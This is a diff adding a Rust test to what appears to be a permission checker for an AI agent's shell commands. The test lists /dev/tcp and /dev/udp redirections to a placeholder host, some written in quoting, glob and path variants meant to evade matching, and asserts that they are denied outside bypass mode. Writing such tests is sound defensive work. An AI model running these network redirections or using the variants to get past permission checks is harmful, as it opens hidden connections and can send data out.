@@ -49,3 +49,46 @@ fn a_wrapper_is_transparent_only_in_a_folder_of_the_system() {
         }
     }
 }
+
+#[test]
+fn a_redirection_to_a_connection_is_no_reading() {
+    for line in [
+        "cat < /dev/tcp/h/80",
+        "cat </dev/udp/h/80",
+        "cat < '/dev/tcp/h/80'",
+        "cat < \"/dev/tcp/h/80\"",
+        "cat < /dev/tcp/h/$PORT",
+        "cat < /dev/tc[p]/h/80",
+        "cat < //dev//tcp/h/80",
+        "exec 3<>/dev/tcp/h/80; cat <&3",
+        "exec 3< /dev/tcp/h/80",
+        "ls 2>/dev/tcp/h/80",
+        "ls &>/dev/tcp/h/80",
+        "ls >& /dev/tcp/h/80",
+        "ls >> /dev/tcp/h/80",
+        "echo \"$(cat < /dev/tcp/h/80)\"",
+        "(ls) < /dev/tcp/h/80",
+        "bash -c 'cat < /dev/tcp/h/80'",
+    ] {
+        let allow = [
+            "Bash(cat:*)",
+            "Bash(exec:*)",
+            "Bash(bash:*)",
+            "Bash(echo:*)",
+        ];
+        for mode in PermissionMode::ALL {
+            let is_free = mode == PermissionMode::BypassPermissions;
+            let permissions = permissions(mode, &allow, &[]);
+            let decision = decide(&permissions, line, &in_w);
+            assert_eq!(decision == Decision::Allow, is_free, "{line} in {mode:?}");
+        }
+    }
+    for line in [
+        "cat < /dev/null",
+        "cat < dev/tcp/h/80",
+        "ls < /dev/tcp",
+        "cat /dev/tcp/h/80",
+    ] {
+        assert!(runs(&[], line), "{line}");
+    }
+}
